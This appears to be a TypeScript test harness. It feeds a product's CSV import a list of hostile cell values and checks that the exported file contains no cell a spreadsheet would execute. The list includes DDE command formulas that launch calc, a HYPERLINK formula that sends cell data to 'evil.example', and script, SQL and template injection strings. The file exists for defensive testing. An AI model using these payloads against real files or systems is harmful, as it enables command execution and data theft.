import type { Import } from '#domain/records/imports.ts';
import type { TemporaryCorella } from '../harness/corella.ts';
import type { ProofResult } from '../harness/proof.ts';
import { openAdmin } from './big-import.ts';

/** RFC 4180 read a character at a time: slow, plain, and not the parser that the product uses. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at];
    if (isQuoted) {
      if (character !== '"') cell += character;
      else if (text[at + 1] === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (character === '"' && cell === '') isQuoted = true;
    else if (character === ',') {
      row.push(cell);
      cell = '';
    } else if (character === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell]);
      row = [];
      cell = '';
      at += 1;
    } else cell += character;
  }
  return rows;
}

/**
 * Hostile cells go in as names, addresses and company names, and out again as a file. What comes out
 * must be what went in, or what the forms of the product make of it, and no cell may be a formula.
 */

const payloads = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|"/C calc"!A0',
  '+61 491 570 156',
  '-2+3+cmd|" /C calc"!D2',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  'a;=1+1;b',
  'a,=1+1,b',
  'a\t=1+1\tb',
  'a|=1+1',
  'a"=1+1',
  '"quoted"',
  '""',
  '"',
  'O’Brien, Jr.',
  'line\r\nbreak',
  'line\nbreak',
  'line\rbreak',
  'nul\0inside',
  '\0=1+1',
  'bell\u0007',
  'emoji 👩‍👩‍👧‍👦 🦘',
  'right-to-left \u202egnp.exe',
  '\u2067שלום\u2069',
  'combining e\u0301 and ﬀ',
  '\ufeffmark',
  'x'.repeat(200),
  'x'.repeat(201),
  'y'.repeat(1_048_576),
  '{{7*7}}',
  '<script>alert(1)</script>',
  "'; drop table users; --",
  '%00',
  '\\x00',
  'null',
  'TRUE',
  '1E5',
  '2026-07-01',
  '00123',
];

type Column = 'name' | 'address' | 'company_name';

interface HostileCell {
  readonly email: string;
  readonly column: Column;
  readonly text: string;
}

function hostileCells(count: number): HostileCell[] {
  const columns: readonly Column[] = ['name', 'address', 'company_name'];
  return Array.from({ length: count }, (_, at) => {
    const text = payloads[at % payloads.length] ?? '';
    // Short ones become different each time; long ones stay as long as they are.
    const isShort = text.length < 100;
    return {
      email: `hostile-${at}@records.example`,
      column: columns[Math.floor(at / payloads.length) % columns.length] ?? 'name',
      text: isShort && at >= payloads.length ? `${text}${at}` : text,
    };
  });
}

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

function rowOf({ email, column, text }: HostileCell): string {
  const cells = { name: 'Plain', address: '', company_name: '', [column]: text };
  return [cells.name, email, cells.address, cells.company_name].map(quoted).join(',');
}

const isControl = (code: number) => code < 32 || (code >= 127 && code < 160);
/** Line separators count as control characters; those that turn text round are left out. */
const separators = [0x2028, 0x2029];
const turning = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069];
const keptInText = [0, 9, 10, 13];

/** How a form of the product tidies what is typed, written anew so that it checks the other. */
function tidied({ column, text }: HostileCell): string | undefined {
  const isLine = column !== 'address';
  if (!isLine && text.includes('\0')) return undefined;
  let plain = '';
  let wasControl = false;
  for (const character of text) {
    const code = character.codePointAt(0) ?? 0;
    const isSpace = isLine
      ? isControl(code) || separators.includes(code)
      : isControl(code) && !keptInText.includes(code);
    if (!isSpace) plain += isLine && turning.includes(code) ? '' : character;
    else if (!wasControl) plain += ' ';
    wasControl = isSpace;
  }
  const trimmed = plain.trim();
  return trimmed.length > (isLine ? 200 : 500) ? undefined : trimmed;
}

/** What a spreadsheet would run, at the beginning of a cell or where another one cuts the line. */
const runs = /(?:^[\s\u00a0]*|[,;|\t\r\n"])[=+\-@＝＋－＠]/;
const begins = /^[\s\u00a0]*(?:[=+\-@＝＋－＠]|[\t\r\n])/;

const unread = (cell: string) => {
  // Takes away one apostrophe before what would run; by hand, unlike the product.
  let text = '';
  for (let at = 0; at < cell.length; at += 1) {
    const before = cell.slice(0, at);
    const isPlace = /^[ \u00a0]*$/.test(before) || /[,;|\t\r\n"]$/.test(before);
    if (cell[at] === "'" && isPlace && /^'+[=+\-@\t\r\n＝＋－＠]/.test(cell.slice(at))) continue;
    text += cell[at];
  }
  return text;
};

export async function sendHostile(corella: TemporaryCorella, count: number): Promise<ProofResult> {
  const server = corella.start();
  await server.ready();
  const admin = await openAdmin(corella);
  const cells = hostileCells(count);
  const file = ['name,email,address,company_name', ...cells.map(rowOf)].join('\r\n');
  const sent = await admin.ask('/api/imports', {
    method: 'POST',
    headers: { 'content-type': 'text/csv' },
    body: file,
  });
  const { data } = (await sent.json()) as { data: Import };
  while ((await admin.read(data._id))?.state !== 'done');
  const done = await admin.read(data._id);
  const out = await (await admin.ask('/api/exports/clients.csv')).text();
  const [headings = [], ...rows] = parseCsv(out.replace(/^\ufeff/, ''));
  const people = new Map(rows.map((row) => [row[headings.indexOf('email')], row]));
  let [unchanged, defused, tidy, refused] = [0, 0, 0, 0];
  const wrong: string[] = [];
  for (const cell of cells) {
    const wanted = tidied(cell);
    const isEmptyName = cell.column === 'name' && wanted === '';
    const exported = people.get(cell.email)?.[headings.indexOf(cell.column)];
    if (wanted === undefined || isEmptyName) {
      if (exported === undefined) refused += 1;
      else wrong.push(`${JSON.stringify(cell.text.slice(0, 40))} should have been refused`);
      continue;
    }
    if (exported === cell.text) unchanged += 1;
    else if (exported === undefined || unread(exported) !== wanted) {
      wrong.push(
        `${JSON.stringify(cell.text.slice(0, 40))} came out as ${JSON.stringify(exported)}`,
      );
    } else if (exported !== wanted) defused += 1;
    else tidy += 1;
  }
  const running = rows.flat().filter((cell) => runs.test(cell) || begins.test(cell));
  // And back in: no one has changed.
  const again = await admin.ask('/api/imports?dryRun=1', {
    method: 'POST',
    headers: { 'content-type': 'text/csv' },
    body: out,
  });
  const back = ((await again.json()) as { data: Import }).data;
  await server.stop();
  for (const each of wrong.slice(0, 10)) console.log(each);
  return {
    trials: count,
    figures: {
      'out as they came in': unchanged,
      'with an apostrophe before': defused,
      'tidied as a form does': tidy,
      'refused with a reason': refused,
    },
    missed: {
      'that a spreadsheet would run': running.length,
      'changed by coming in again': back.new + back.changed + back.wrongTotal,
      'otherwise than they should be': wrong.length,
      'left out without a reason': Math.abs(refused - (done?.wrongTotal ?? 0)),
      'not accounted for': Math.abs(count - unchanged - defused - tidy - refused),
    },
  };
}
